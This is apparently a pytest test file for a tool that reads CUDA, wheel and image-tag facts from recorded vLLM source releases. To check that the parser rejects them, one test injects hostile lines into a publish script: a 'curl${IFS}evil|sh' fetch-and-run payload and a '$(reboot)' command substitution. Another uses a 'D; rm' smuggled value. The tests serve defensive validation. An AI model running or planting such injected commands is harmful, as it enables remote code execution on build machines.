"""CUDA facts from released sdists (issue 26): the shipped ``cuda.toml`` records are what the
reader makes of each release's real files, and a hostile file cannot put a bad tag in them."""

from __future__ import annotations

import json
import tomllib
from pathlib import Path

import pytest
from packaging.version import Version

from resolver.data import matrix
from resolver.refresh.cuda import (
    WANTED,
    cuda_record,
    elf_needed,
    metadata_cuda_major,
    needed_cuda_major,
    quant_floors,
    wheel_floor,
)
from resolver.refresh.sdist import _WHEEL_NAME, IndexFile, read_members

from .conftest import REPO_MATRIX

SLICES = Path(__file__).parent / "recorded" / "sdist-cuda"
SHIPPED = {
    r["version"]: r for r in tomllib.loads((REPO_MATRIX / "cuda.toml").read_text())["release"]
}


# Real wheel entries of PyPI's PEP 691 project page for vLLM (recorded/SOURCES.md).
WHEELS = json.loads((SLICES.parent / "sdist" / "pypi-simple-vllm-wheels.json").read_text())


# Other releases' x86_64 wheels, as PyPI's PEP 691 page for vLLM lists them (read 2026-12-02;
# not in the recorded page above, which holds a few releases from 0.10 on).
OLDER_WHEELS: dict[str, tuple[tuple[str, str], ...]] = {
    v: (("manylinux1_x86_64", f"vllm-{v}-cp38-abi3-manylinux1_x86_64.whl"),)
    for v in ("0.6.1", "0.6.2", "0.7.3", "0.9.0.1", "0.9.1", "0.11.0")
}
OLDER_WHEELS["0.19.1"] = (
    ("manylinux_2_31_x86_64", "vllm-0.19.1-cp38-abi3-manylinux_2_31_x86_64.whl"),
)
OLDER_WHEELS["0.20.1"] = (  # 0.20.1 has a rebuilt wheel (build tag 1) beside the first
    ("manylinux_2_35_x86_64", "vllm-0.20.1-1-cp38-abi3-manylinux_2_35_x86_64.whl"),
    ("manylinux_2_35_x86_64", "vllm-0.20.1-cp38-abi3-manylinux_2_35_x86_64.whl"),
)


def _wheels(version: str) -> tuple[tuple[str, str], ...]:
    if version in OLDER_WHEELS:
        return OLDER_WHEELS[version]
    out = []
    for f in WHEELS["files"]:
        m = _WHEEL_NAME.fullmatch(f["filename"])
        if m and m.group("version") == version:
            out.append((m.group("platform"), f["filename"]))
    return tuple(sorted(out))


def _read(version: str) -> dict[str, object]:
    files = read_members((SLICES / f"vllm-{version}.tar.gz").read_bytes(), WANTED)
    sha = str(SHIPPED[version]["sdist_sha256"])
    index = IndexFile(Version(version), "", "", sha, None, None, wheels=_wheels(version))
    record, why = cuda_record(index, files)
    assert record is not None, why
    return record


@pytest.mark.parametrize(
    "version",
    [
        "0.6.2",
        "0.7.3",
        "0.9.0.1",
        "0.9.1",
        "0.10.1.1",
        "0.11.0",
        "0.19.1",
        "0.20.1",
        "0.24.0",
        "0.32.0",
        "0.33.0",
    ],
)
def test_the_shipped_record_is_what_the_sdist_says(version: str) -> None:
    assert _read(version) == SHIPPED[version]


def test_the_wheels_glibc_floor_is_its_platform_tag_on_the_index() -> None:
    """vLLM's CUDA wheels are not all manylinux_2_28: 0.12-0.19 ask glibc 2.31, 0.20.x 2.35
    (pip refuses them on Ubuntu 20.04), and a legacy manylinux1 tag states no floor."""
    assert wheel_floor(_wheels("0.20.0")) == (
        "2.35",
        "manylinux_2_35_x86_64",
        "vllm-0.20.0-cp38-abi3-manylinux_2_35_x86_64.whl",
    )
    assert wheel_floor(_wheels("0.12.0"))[0] == "2.31"  # type: ignore[index]
    assert wheel_floor(_wheels("0.10.1.1"))[:2] == (None, "manylinux1_x86_64")  # type: ignore[index]
    assert wheel_floor(()) is None
    m = matrix.load_dir(REPO_MATRIX)
    r20 = m.cuda_release(Version("0.20.0"))
    assert r20 is not None and r20.wheel_glibc == Version("2.35")


def test_what_users_get_wrong_is_in_the_data() -> None:
    m = matrix.load_dir(REPO_MATRIX)
    r33 = m.cuda_release(Version("0.33.0"))
    r32 = m.cuda_release(Version("0.32.0"))
    assert r33 is not None and r32 is not None
    # 0.33.0's images are CUDA 13.0 only; 0.32.0 still published a cu129 family.
    assert {str(i.cuda) for i in r33.images if "efa" not in i.tag} == {"13.0"}
    assert {i.tag: str(i.cuda) for i in r32.images}["v0.32.0-cu129"] == "12.9"
    # The x86_64 release images skip 11.0 (Jetson Thor), the aarch64 ones carry it.
    default = next(i for i in r33.images if i.tag == "v0.33.0")
    assert "11.0f" not in default.arch and "11.0f" in default.arch_aarch64
    # CUDA 13 builds Blackwell and later as family targets (CMakeLists.txt); the cu129 family
    # of 0.32.0 does not.
    assert "10.0f" in default.arch
    assert "10.0" in {i.tag: i for i in r32.images}["v0.32.0-cu129"].arch
    # The PyPI wheel is the CUDA 13.0 build (VLLM_MAIN_CUDA_VERSION; it links libcudart.so.13),
    # not the 12.9 the stale install page names; 0.32.0 also built CUDA 12.9 wheels.
    assert r33.wheel_cuda == Version("13.0") and r33.provenance.confidence == "exact"
    assert r33.wheel_index == "https://download.pytorch.org/whl/cu130"
    assert r33.wheel_variants == () and r32.wheel_variants == (Version("12.9"),)
    r19 = m.cuda_release(Version("0.19.1"))
    assert r19 is not None and r19.wheel_cuda == Version("12.9")
    # An sdist with neither the publish script nor the release annotation says nothing about
    # image tags: none are invented.
    old = m.cuda_release(Version("0.9.0.1"))
    assert old is not None and old.images == () and old.provenance.confidence == "inferred"


def test_a_hostile_tag_suffix_is_not_read(tmp_path: Path) -> None:
    files = read_members((SLICES / "vllm-0.33.0.tar.gz").read_bytes(), WANTED)
    script = ".buildkite/scripts/publish-release-images.sh"
    files[script] += '\npublish_image_family "-x;curl${IFS}evil|sh"\n'
    files[script] += 'docker push "vllm/vllm-openai:v${RELEASE_VERSION}-$(reboot)"\n'
    record, _ = cuda_record(IndexFile(Version("0.33.0"), "", "", "0" * 64, None, None), files)
    assert record is not None
    tags = [i["tag"] for i in record["image"]]
    assert tags == ["v0.33.0", "v0.33.0-efa"]


def test_no_cuda_version_is_refused_with_the_reason() -> None:
    record, why = cuda_record(IndexFile(Version("0.6.0"), "", "", "0" * 64, None, None), {})
    assert record is None and "CUDA_VERSION" in why


WHEEL = SLICES.parent / "wheel-cuda"


def test_the_wheel_itself_says_cuda_13_as_the_data_does() -> None:
    """issue 38: the CUDA of vLLM 0.33.0's PyPI wheel, read from the wheel (its METADATA and one
    of its libraries, recorded/SOURCES.md), is the major the data records, not the 12.9 of the
    stale install page."""
    metadata = (WHEEL / "vllm-0.33.0.METADATA").read_text()
    needed = elf_needed((WHEEL / "vllm-0.33.0-cumem_allocator.abi3.so").read_bytes())
    assert "libnvrtc.so.13" in needed and "libcuda.so.1" in needed
    assert metadata_cuda_major(metadata) == needed_cuda_major(needed) == "13"
    shipped = Version(str(SHIPPED["0.33.0"]["wheel_cuda"]))
    assert str(shipped.major) == "13"


def test_wheel_cuda_readers_take_only_what_they_recognise() -> None:
    cu12 = "Requires-Dist: torch==2.9.0\nRequires-Dist: nvidia-cuda-runtime-cu12==12.9.79\n"
    assert metadata_cuda_major(cu12) == "12"
    optional = 'Requires-Dist: nvidia-deepstream-videodecode-cu13>=9.0.2; extra == "deepstream"\n'
    assert metadata_cuda_major(optional) is None  # an extra is not the default install
    assert metadata_cuda_major(cu12 + "Requires-Dist: humming-kernels[cu13]==0.1.19\n") is None
    assert needed_cuda_major(["libcudart.so.12", "libc.so.6"]) == "12"
    assert needed_cuda_major(["libcudart.so.12", "libnvrtc.so.13"]) is None
    for junk in (b"", b"\x7fELF" + b"\0" * 60, b"\x7fELF\x02\x01" + b"\xff" * 200, b"MZ" * 40):
        assert elf_needed(junk) == []


def test_before_0_8_3_the_dockerfile_at_the_root_and_the_release_image_s_cuda_are_read() -> None:
    """Issue 38 (a): the Dockerfile sat at the sdist's root before 0.8.3; from 0.6.5 to 0.7.3 the
    pipeline built the release image with CUDA 12.1.0 on a Dockerfile whose default is 12.4.1,
    so the image's CUDA is the pipeline's; an sdist with no Dockerfile (0.6.1) is refused."""
    r062, r073 = _read("0.6.2"), _read("0.7.3")
    assert r062["cuda"] == "12.4" and str(r062["source"]).count("Dockerfile (") == 2
    assert r073["cuda"] == "12.1" and "Build release image: CUDA_VERSION 12.1.0" in str(
        r073["source"]
    )
    assert r073["image"] == [] and r073["confidence"] == "inferred"
    files = read_members((SLICES / "vllm-0.6.1.tar.gz").read_bytes(), WANTED)
    record, why = cuda_record(IndexFile(Version("0.6.1"), "", "", "0" * 64, None, None), files)
    assert record is None and "CUDA_VERSION" in why
    m = matrix.load_dir(REPO_MATRIX)
    assert m.cuda_release(Version("0.6.1")) is None
    for version in ("0.6.2", "0.7.3", "0.8.2"):
        assert m.cuda_release(Version(version)) is not None


def test_quantization_floors_are_each_config_s_literal_answers() -> None:
    """Issue 38 (b): get_min_capability() as the release's own config class returns it
    (modelopt FP8 8.9 in 0.20.0, fp8 8.0 through Marlin before 0.20, 7.5 from it)."""
    assert dict(_read("0.7.3")["quant_min_capability"])["modelopt"] == "8.9"  # type: ignore[call-overload]
    assert dict(_read("0.7.3")["quant_min_capability"])["fp8"] == "8.0"  # type: ignore[call-overload]
    assert dict(_read("0.33.0")["quant_min_capability"])["fp_quant"] == "10.0"  # type: ignore[call-overload]
    q = "vllm/model_executor/layers/quantization/"
    computed = (
        "class A:\n def get_name(cls): return 'a'\n"
        " def get_min_capability(cls): return 80 if X else 75\n"
    )
    twice = (
        "class B:\n def get_name(cls): return 'b'\n def get_min_capability(cls): return 80\n"
        "class C:\n def get_name(cls): return 'b'\n def get_min_capability(cls): return 90\n"
    )
    odd = "class D:\n def get_name(cls): return 'D; rm'\n def get_min_capability(cls): return 80\n"
    files = {q + "a.py": computed, q + "b.py": twice, q + "d.py": odd, q + "e.py": "def (:"}
    files["elsewhere.py"] = (
        "class E:\n def get_name(c): return 'e'\n def get_min_capability(c): return 1\n"
    )
    assert quant_floors(files) == []
